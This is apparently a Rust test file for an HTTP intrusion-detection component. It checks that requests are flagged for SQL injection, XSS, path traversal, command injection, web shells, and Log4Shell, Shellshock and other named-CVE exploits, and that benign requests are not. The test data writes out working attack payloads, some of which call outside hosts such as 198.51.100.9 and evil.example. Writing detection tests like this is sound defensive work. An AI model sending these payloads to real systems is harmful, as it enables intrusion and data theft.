//! Requests that exploit something, and requests that only use its words.

use super::*;

fn of_target(target: &str) -> Vec<&'static str> {
    let mut signs = Signs::default();
    signs.head(target.as_bytes(), [].into_iter());
    names(&signs.take())
}

fn names(signs: &[HttpSign]) -> Vec<&'static str> {
    signs.iter().filter_map(|sign| sign.rule.strip_prefix("exploit.")).collect()
}

fn of_field(name: &str, value: &str) -> Box<[HttpSign]> {
    let mut signs = Signs::default();
    signs.head(b"/", [(name.as_bytes(), value.as_bytes())].into_iter());
    signs.take()
}

const FORM: &[u8] = b"application/x-www-form-urlencoded; charset=UTF-8";

#[test]
fn targets_give_attacks_away() {
    for (target, rule) in [
        ("/item?id=%25%27+or+0%3D0+union+select+null%2C+version%28%29+%23", "sql_injection"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "cross_site_scripting"),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "path_traversal"),
        ("/view?file=..%252f..%252f..%252fetc%252fpasswd", "path_traversal"),
        ("/ping.cgi?ip=192.0.2.1%3Bwget%20http://198.51.100.9/x", "command_injection"),
        ("/up/shell.php?cmd=cat+/etc/passwd", "web_shell"),
        ("/?x=${${lower:j}ndi:ldap://198.51.100.9/a}", "log4shell CVE-2021-44228"),
        (
            "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
            "thinkphp CVE-2018-20062",
        ),
        ("/vendor/phpunit/src/Util/PHP/eval-stdin.php", "phpunit CVE-2017-9841"),
        ("/autodiscover/autodiscover.json?@x.example/powershell/?X-Rps-CAT=1", "proxyshell CVE-2021-34473"),
        ("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "big_ip CVE-2020-5902"),
    ] {
        assert!(of_target(target).contains(&rule), "{target}: {:?}", of_target(target));
    }
}

#[test]
fn ordinary_targets_give_nothing() {
    for target in [
        "/",
        "/search?q=rock+%27n%27+roll&lang=ja",
        "/a/../b/index.html?x=1&y=2",
        "/list?fields=name|id&sort=-date;id",
        "/%E5%B8%82%E5%BD%B9%E6%89%80?q=%E7%94%B3%E8%AB%8B",
        "/ad?url=https%3A%2F%2Fwww.example.com%2Fp%3Fa%3D1%26b%3D2&ref=%22x%22",
        "/calc?e=1%2B1%3D2+or+more",
        "/api?filter=price>100%20and%20price<200",
    ] {
        assert_eq!(of_target(target), [""; 0], "{target}");
    }
}

#[test]
fn fields_give_attacks_away_with_whom_they_call() {
    let signs = of_field("User-Agent", "() { :;}; /bin/ping -c1 198.51.100.9");
    assert_eq!((signs[0].rule, signs[0].place), ("exploit.shellshock CVE-2014-6271", "field"));
    assert_eq!(*signs[0].callbacks, [("198.51.100.9".into(), None)]);
    let signs = of_field("X-Api", "${jndi:${lower:l}dap://evil.example:1389/a}");
    assert_eq!(*signs[0].callbacks, [("evil.example".into(), Some(1_389))]);
    assert!(of_field("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) it's {fine}").is_empty());
    assert!(of_field("Cookie", "a='b'; c=\"d or e\"").is_empty());
}

#[test]
fn bodies_give_attacks_away() {
    let of_body = |kind: &[u8], body: &[u8], target: &str| {
        let mut signs = Signs::default();
        signs.body(kind, body, target);
        names(&signs.take())
    };
    assert_eq!(
        of_body(FORM, b"uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%7D", "/login"),
        ["log4shell CVE-2021-44228"]
    );
    assert_eq!(of_body(FORM, b"id=1%27+or+%271%27%3D%271", "/"), ["sql_injection"]);
    let soap = b"<p:ExecuteShellCommand_INPUT xmlns:p=\"http://schemas/SCX_OperatingSystem\">";
    assert_eq!(of_body(b"application/soap+xml", soap, "/wsman"), ["omigod CVE-2021-38647"]);
    assert_eq!(of_body(b"application/soap+xml", soap, "/other"), [""; 0]);
    assert_eq!(of_body(FORM, b"comment=It%27s+a+nice+day+or+so&name=O%27Brien", "/"), [""; 0]);
}

#[test]
fn forms_show_logins_and_no_secret() {
    let login = form(FORM, b"username=yamada&password=secret&Login=Login").unwrap();
    assert_eq!((login.has_password, login.user.as_deref()), (true, Some("yamada")));
    assert!(!format!("{login:?}").contains("secret"));
    let nested = form(FORM, b"user%5Bemail%5D=a%40b.example&user%5Bpassword%5D=x").unwrap();
    assert_eq!((nested.has_password, nested.user.as_deref()), (true, Some("a@b.example")));
    assert_eq!(form(FORM, b"q=password&password=").map(|form| form.has_password), Some(false));
    assert_eq!(form(b"text/plain", b"password=x"), None);
    let json =
        form(b"application/json", b"{\"user\": \"yamada\", \"password\": \"x\", \"keep\": true}").unwrap();
    assert_eq!((json.has_password, json.user.as_deref()), (true, Some("yamada")));
}
